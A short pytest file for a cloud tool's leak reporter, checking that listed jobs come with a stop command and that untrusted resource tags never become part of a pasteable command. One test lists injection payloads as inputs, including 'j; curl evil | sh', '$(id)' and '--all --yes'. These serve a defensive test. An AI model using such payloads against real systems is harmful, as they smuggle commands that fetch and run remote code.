"""What launch.infra says of jobs that keep it from deleting the account's roles."""

from datetime import UTC, datetime
from types import SimpleNamespace
from typing import Any

import pytest

from launch.aws.instances.inventory import Fleet, Resource
from launch.ec2 import leaks

NOW = datetime(2026, 1, 1, tzinfo=UTC)


def named(job: str, monkeypatch: pytest.MonkeyPatch) -> str:
    aws: Any = SimpleNamespace(region="eu-west-1")
    monkeypatch.setattr(leaks, "find", lambda aws: Fleet(resources=(Resource("volume", "vol-1", job),)))
    (line,) = leaks.active_jobs(aws, NOW)
    return line


def test_a_job_comes_with_the_command_that_stops_it(monkeypatch: pytest.MonkeyPatch) -> None:
    assert named("j", monkeypatch) == "j in eu-west-1 (python -m launch.ec2 stop j --region eu-west-1)"


@pytest.mark.parametrize("job", ["j; curl evil | sh", "$(id)", "--all --yes", ""])
def test_a_strangers_tag_is_no_part_of_a_command_to_paste(job: str, monkeypatch: pytest.MonkeyPatch) -> None:
    assert "python" not in named(job, monkeypatch)
